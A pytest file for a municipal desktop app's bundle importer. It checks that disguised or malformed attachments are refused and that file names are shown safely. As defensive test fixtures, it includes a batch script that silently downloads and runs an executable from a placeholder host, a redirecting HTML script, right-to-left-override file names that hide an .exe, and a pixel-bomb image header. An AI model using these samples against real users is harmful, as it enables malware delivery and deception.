"""Attachments in bundles signed by a trusted office: the bytes decide what a file is, the sender's
name is only shown (and made safe), and an image over the pixel cap is refused unread."""

from __future__ import annotations

import hashlib
import uuid
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from smartcity_desktop.bundles.writer import AttachmentFile
from smartcity_desktop.services.context import AppContext
from smartcity_desktop.services.exchange import import_files
from smartcity_desktop.storage.filetypes import MAX_PIXELS
from smartcity_desktop.storage.models import Attachment
from tests.services.test_exchange import one, pin, state
from tests.services.test_exchange_hostile import _forge_with, _rehash
from tests.storage.sample_files import jpeg_bytes, pdf_bytes, png_bytes, png_header_only

pytestmark = pytest.mark.postgres_ready

MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 4000 + b"This program"
HTML = b"<!DOCTYPE html><html><body><script>location='http://x.example/'</script></body></html>"
BAT = b"@echo off\r\npowershell -w hidden -c iwr http://x.example/p.exe -o p.exe\r\np.exe\r\n"


def _row(office: str, name: str, media_type: str, data: bytes) -> dict[str, Any]:
    sha = hashlib.sha256(data).hexdigest()
    values = {
        "record_kind": "problem",
        "record_id": str(uuid.uuid4()),  # a record that has not arrived yet: allowed
        "sha256": sha,
        "filename": name,
        "media_type": media_type,
        "size": len(data),
        "width": None,
        "height": None,
        "caption": None,
    }
    return _rehash(
        "attachment",
        {
            "id": str(uuid.uuid4()),
            "office_code": office,
            "revision": 1,
            "status": "final",
            "deleted": False,
            "content_hash": "",
            "created_at": "2026-01-01T00:00:00.000000Z",
            "updated_at": "2026-01-01T00:00:00.000000Z",
            "author": "Operator Uji",
            "values": values,
            "sha256": sha,
        },
    )


def _bundle(
    sender: AppContext, folder: Path, files: list[tuple[str, str, bytes]], *, sequence: int = 1
) -> Path:
    """A bundle signed with ``sender``'s real key carrying ``(name, declared type, bytes)``."""
    rows, attachments = [], {}
    for name, media_type, data in files:
        row = _row(sender.office.code, name, media_type, data)
        rows.append(row)
        path = folder / f"file-{row['sha256'][:12]}"
        path.write_bytes(data)
        attachments[row["sha256"]] = AttachmentFile(row["sha256"], path)
    return _forge_with(
        sender,
        folder,
        {"attachment": rows},
        sequence=sequence,
        attachments=tuple(attachments.values()),
    )


def _stored(ctx: AppContext) -> dict[str, tuple[str, str]]:
    """Stored attachments: sha256 -> (file name, media type)."""
    with ctx.db.session() as s:
        rows = s.execute(select(Attachment.sha256, Attachment.filename, Attachment.media_type))
        return {sha: (name, media) for sha, name, media in rows}


@pytest.mark.parametrize(
    ("name", "declared", "data", "what"),
    [
        ("surat-undangan.pdf.exe", "application/pdf", MZ, "program Windows (EXE)"),
        ("Laporan.pdf.html", "application/pdf", HTML, "halaman web (HTML)"),
        ("run.bat", "image/jpeg", BAT, "skrip perintah Windows (BAT/CMD)"),
        ("foto\u202egpj.exe", "image/jpeg", MZ, "program Windows (EXE)"),
        ("peta.png", "image/png", jpeg_bytes(), "foto JPEG"),
        ("undangan.pdf", "application/pdf", jpeg_bytes(), "foto JPEG"),
    ],
    ids=["pdf-exe", "pdf-html", "bat-as-jpeg", "bidi-exe-as-jpeg", "jpeg-as-png", "jpeg-as-pdf"],
)
def test_a_file_that_is_not_what_its_row_declares_refuses_the_bundle(
    desa_ctx: AppContext,
    kecamatan_ctx: AppContext,
    tmp_path: Path,
    name: str,
    declared: str,
    data: bytes,
    what: str,
) -> None:
    genuine = ("foto-jalan.jpg", "image/jpeg", jpeg_bytes())  # a good file in the same bundle
    bundle = _bundle(desa_ctx, tmp_path, [genuine, (name, declared, data)])
    pin(kecamatan_ctx, desa_ctx)
    before = state(kecamatan_ctx)
    report = one(import_files(kecamatan_ctx, [bundle]))
    assert report.status == "refused"
    assert [f.code for f in report.findings] == ["attachment.type_mismatch"]
    message = report.findings[0].message
    shown = name.replace("\u202e", "")
    assert f"'{shown}'" in message and what in message
    assert "\u202e" not in message
    assert state(kecamatan_ctx) == before  # nothing written: no row, no blob, no ledger entry


@pytest.mark.parametrize(
    ("name", "declared", "data", "stored"),
    [
        ("x.pdf.exe", "application/pdf", pdf_bytes(), "x.pdf"),
        ("Laporan.pdf.html", "application/pdf", pdf_bytes(text="Laporan"), "Laporan.pdf"),
        ("foto\u202egpj.exe", "image/jpeg", jpeg_bytes(colour=(1, 2, 3)), "fotogpj.jpg"),
        ("CON", "application/pdf", pdf_bytes(text="CON"), "_CON.pdf"),
        ("NUL.txt", "image/jpeg", jpeg_bytes(colour=(9, 9, 9)), "_NUL.jpg"),
        ("run.bat", "image/png", png_bytes(), "run.png"),
    ],
    ids=["real-pdf-exe", "real-pdf-html", "bidi", "con", "nul-txt", "bat-name-real-png"],
)
def test_real_files_are_kept_under_a_safe_display_name(
    desa_ctx: AppContext,
    kecamatan_ctx: AppContext,
    tmp_path: Path,
    name: str,
    declared: str,
    data: bytes,
    stored: str,
) -> None:
    bundle = _bundle(desa_ctx, tmp_path, [(name, declared, data)])
    pin(kecamatan_ctx, desa_ctx)
    report = one(import_files(kecamatan_ctx, [bundle]))
    assert report.status == "imported", report.findings
    sha = hashlib.sha256(data).hexdigest()
    assert _stored(kecamatan_ctx) == {sha: (stored, declared)}
    assert kecamatan_ctx.blobs.path_for(sha).read_bytes() == data
    assert [o.title for o in report.outcomes] == [stored]  # the receipt shows the safe name too


def test_an_image_over_the_pixel_cap_is_refused_unread(
    desa_ctx: AppContext, kecamatan_ctx: AppContext, tmp_path: Path
) -> None:
    # Holds no pixels: only its header can have been read.
    bomb = png_header_only(10_000, 8_000)
    bundle = _bundle(desa_ctx, tmp_path, [("sawah.png", "image/png", bomb)])
    pin(kecamatan_ctx, desa_ctx)
    before = state(kecamatan_ctx)
    report = one(import_files(kecamatan_ctx, [bundle]))
    assert report.status == "refused"
    assert [f.code for f in report.findings] == ["attachment.too_many_pixels"]
    message = report.findings[0].message
    assert "sawah.png" in message and "10000×8000" in message
    assert f"{MAX_PIXELS // 1_000_000} megapiksel" in message
    assert state(kecamatan_ctx) == before


def test_a_damaged_file_with_the_right_header_refuses_the_bundle(
    desa_ctx: AppContext, kecamatan_ctx: AppContext, tmp_path: Path
) -> None:
    broken = b"%PDF-1.7\n" + MZ + b"\n%%EOF\n"
    bundle = _bundle(desa_ctx, tmp_path, [("anggaran.pdf", "application/pdf", broken)])
    pin(kecamatan_ctx, desa_ctx)
    before = state(kecamatan_ctx)
    report = one(import_files(kecamatan_ctx, [bundle]))
    assert [f.code for f in report.findings] == ["attachment.corrupt"]
    assert "anggaran.pdf" in report.findings[0].message
    assert state(kecamatan_ctx) == before


def test_bytes_already_stored_are_checked_against_the_new_declaration(
    desa_ctx: AppContext, kecamatan_ctx: AppContext, tmp_path: Path
) -> None:
    data = pdf_bytes()
    pin(kecamatan_ctx, desa_ctx)
    first = _bundle(desa_ctx, tmp_path, [("undangan.pdf", "application/pdf", data)])
    assert one(import_files(kecamatan_ctx, [first])).status == "imported"
    (tmp_path / "second").mkdir()
    again = _bundle(desa_ctx, tmp_path / "second", [("foto.jpg", "image/jpeg", data)], sequence=2)
    before = state(kecamatan_ctx)
    report = one(import_files(kecamatan_ctx, [again]))
    assert [f.code for f in report.findings] == ["attachment.type_mismatch"]
    assert "dokumen PDF" in report.findings[0].message
    assert state(kecamatan_ctx) == before
